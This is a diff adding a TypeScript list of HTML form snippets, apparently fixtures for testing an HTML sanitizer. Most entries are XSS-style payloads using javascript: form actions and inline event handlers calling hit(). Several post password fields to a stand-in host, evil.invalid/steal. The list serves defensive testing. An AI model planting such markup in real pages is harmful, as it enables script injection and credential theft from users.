@@ -1,0 +1,22 @@
+/** Forms and controls: what a reader would fill in or press. */
+export const forms: readonly string[] = [
+  '<form action="javascript:hit()"><input type=submit value=press></form>',
+  '<form action="https://evil.invalid/steal" method=post><input name=password><button>press</button></form>',
+  '<form id=f></form><button form=f formaction="javascript:hit()">press</button>',
+  '<form><button formaction="javascript:hit()">press</button></form>',
+  '<form><input type=image src="https://evil.invalid/i.png" formaction="javascript:hit()"></form>',
+  '<isindex type=image src=1 onerror=hit() action="javascript:hit()">',
+  '<button type=submit formaction="https://evil.invalid/">press</button>',
+  '<input type=password name=password autocomplete=current-password>',
+  '<input type=text value="<script>hit()</script>">',
+  '<input type=checkbox>a box that can be ticked',
+  '<textarea name=x>type here</textarea>',
+  '<select name=x><option>choose</select>',
+  '<label for=q>search</label><button type=reset>press</button>',
+  '<fieldset form=f><legend onclick=hit()>press</legend></fieldset>',
+  '<output onclick=hit() for=x>press</output>',
+  '<progress onclick=hit()>x</progress><meter onclick=hit()>x</meter>',
+  '<datalist id=d><option value=x></datalist><input list=d>',
+  '- [ ] <input type=file onchange=hit()>',
+  '<dialog open><form action="https://evil.invalid/"><button autofocus>press</button></form></dialog>',
+];
